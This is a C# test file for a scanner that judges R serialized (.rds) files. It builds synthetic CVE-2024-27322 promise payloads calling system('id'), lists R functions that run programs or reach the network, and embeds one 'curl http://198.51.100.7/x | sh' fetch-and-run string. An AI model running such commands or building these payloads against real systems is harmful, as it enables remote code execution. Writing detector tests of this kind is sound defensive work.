using SupplyChainAnalyzers.Core.Findings;
using SupplyChainAnalyzers.Scanner.Tests.Scanning;

namespace SupplyChainAnalyzers.Scanner.Tests.Formats.Rds;

public class RdsScannerTests
{
    // A promise in place of data is evaluated at first use.
    [Fact]
    public void CVE_2024_27322_promise_in_a_list_of_variables() => Is(Verdict.Malicious,
        RdsFile.Of(static file => file.Variable("x", static value => value.Promise(static part => part.Unbound(), static code => code.Call("system", static argument => argument.Strings("id")))), "RDX3\n"));

    [Fact]
    public void CVE_2024_27322_promise_as_the_value_itself() => Is(Verdict.Malicious,
        RdsFile.Of(static file => file.Promise(static part => part.Unbound(), static code => code.Call("print", static argument => argument.Strings("harmless"))), version: 2));

    [Theory]
    [InlineData(false, 2)]
    [InlineData(false, 3)]
    [InlineData(true, 2)]
    [InlineData(true, 3)]
    public void Linear_model_is_clean(bool ascii, int version) => Is(Verdict.Clean, RdsFile.Of(LinearModel, ascii: ascii, version: version));

    [Fact]
    public void Workspace_of_data_is_clean() => Is(Verdict.Clean, RdsFile.Of(static file => file.Variable("frame", static value => value.List("data.frame", ("a", static column => column.Reals(3)))), "RDX3\n"));

    [Fact]
    public void Family_with_its_functions_is_clean() => Is(Verdict.Clean, RdsFile.Of(static file => file.List("family", ("linkfun", static value => value.Closure(static body => body.Call(".Call", static argument => argument.Symbol("C_logit_link"), static argument => argument.Symbol("mu")))))));

    [Fact]
    public void Evaluated_promise_of_an_environment_is_clean() => Is(Verdict.Clean,
        RdsFile.Of(static file => file.Environment("data", static value => value.Promise(static part => part.Reals(2), static code => code.Call("rnorm", static argument => argument.Reals(1))))));

    [Theory]
    [InlineData("system")]
    [InlineData("system2")]
    [InlineData("shell.exec")]
    [InlineData("pipe")]
    [InlineData("dyn.load")]
    [InlineData("source")]
    [InlineData("download.file")]
    [InlineData("socketConnection")]
    [InlineData("unlink")]
    [InlineData("reg.finalizer")]
    public void Function_that_runs_programs_or_reaches_files_is_malicious(string name) =>
        Is(Verdict.Malicious, RdsFile.Of(file => file.List("model", ("predict", value => value.Closure(body => body.Call(name, static argument => argument.Strings("x")))))));

    [Fact]
    public void Function_of_a_package_is_malicious_too() => Is(Verdict.Malicious, RdsFile.Of(static file => file.Closure(static body => body.Call("base", "system", static argument => argument.Strings("id")))));

    [Fact]
    public void Stored_call_is_judged() => Is(Verdict.Malicious, RdsFile.Of(static file => file.List("lm", ("call", static value => value.Call("system", static argument => argument.Strings("id"))))));

    [Fact]
    public void Command_in_code_is_malicious() => Is(Verdict.Malicious, RdsFile.Of(static file => file.Closure(static body => body.Call("f", static argument => argument.Strings("curl http://198.51.100.7/x | sh")))));

    [Fact]
    public void Function_handed_on_is_suspicious() => Is(Verdict.Suspicious, RdsFile.Of(static file => file.Closure(static body => body.Call("lapply", static argument => argument.Symbol("x"), static argument => argument.Symbol("system")))));

    [Fact]
    public void Name_of_a_function_handed_on_is_suspicious() => Is(Verdict.Suspicious, RdsFile.Of(static file => file.Closure(static body => body.Call("do.call", static argument => argument.Strings("system")))));

    [Fact]
    public void Code_out_of_a_text_is_suspicious() => Is(Verdict.Suspicious, RdsFile.Of(static file => file.Closure(static body => body.Call("eval", static argument => argument.Call("parse", static text => text.Symbol("x"))))));

    [Theory]
    [InlineData(".First")]
    [InlineData(".Last")]
    public void Function_a_session_calls_by_itself_is_malicious(string name) => Is(Verdict.Malicious, RdsFile.Of(file => file.Variable(name, static value => value.Closure(static body => body.Null())), "RDX3\n"));

    [Fact]
    public void Compiled_function_is_judged_by_its_constants() => Is(Verdict.Malicious, RdsFile.Of(static file => file.Closure(static body => body
        .Int(21).Int(1).Int(13).Int(1).Int(12).Int(1).Int(6).Null().Symbol("system").Int(2).Null().Strings("id").Null())));

    [Fact]
    public void Values_nested_without_end_are_bounded() => Is(Verdict.Malicious, RdsFile.Of(static file =>
    {
        for (var i = 0; i < 10_000; i++)
            file.Int(19).Int(1);
    }));

    [Fact]
    public void Length_beyond_the_file_is_unscannable() => Is(Verdict.Unscannable, RdsFile.Of(static file => file.Int(14).Int(int.MaxValue)));

    [Fact]
    public void Reference_that_leads_nowhere_is_unscannable() => Is(Verdict.Unscannable, RdsFile.Of(static file => file.Int(255 | (7 << 8))));

    [Fact]
    public void Bytes_behind_the_value_are_SCA3005() => Assert.Contains(Rules.TrailingData, Scanned.Bytes([.. RdsFile.Of(LinearModel), .. new byte[20]]).Doubts);

    [Fact]
    public void Mutated_files_neither_throw_nor_hang()
    {
        var random = new Random(3163);
        byte[][] samples = [RdsFile.Of(LinearModel), RdsFile.Of(LinearModel, ascii: true), RdsFile.Of(static file => file.Closure(static body => body.Call("base", "system", static argument => argument.Strings("id"))), "RDX3\n")];
        for (var round = 0; round < 6000; round++)
        {
            var bytes = (byte[])samples[random.Next(samples.Length)].Clone();
            for (var changes = random.Next(1, 5); changes > 0; changes--)
                bytes[random.Next(7, bytes.Length)] = random.Next(3) switch { 0 => (byte)random.Next(32), 1 => 0xFF, _ => (byte)random.Next(256) };
            _ = Scanned.Bytes(random.Next(5) == 0 ? bytes[..random.Next(bytes.Length)] : bytes).Verdict;
        }
    }

    private static void LinearModel(RdsFile file) => file.List(
        "lm",
        ("coefficients", static value => value.Reals(3)),
        ("call", static value => value.Call("lm", static argument => argument.Call("~", static part => part.Symbol("y"), static part => part.Symbol("x")), static argument => argument.Symbol("frame"))),
        ("levels", static value => value.Strings("a", "system", "c")),
        ("environment", static value => value.Environment("n", static part => part.Reals(1))));

    private static void Is(Verdict verdict, byte[] bytes)
    {
        var scanned = Scanned.Bytes(bytes, "model.rds");
        Assert.Equal("rds", scanned.Format.Id);
        Assert.True(scanned.Verdict == verdict, scanned.ToString());
    }
}
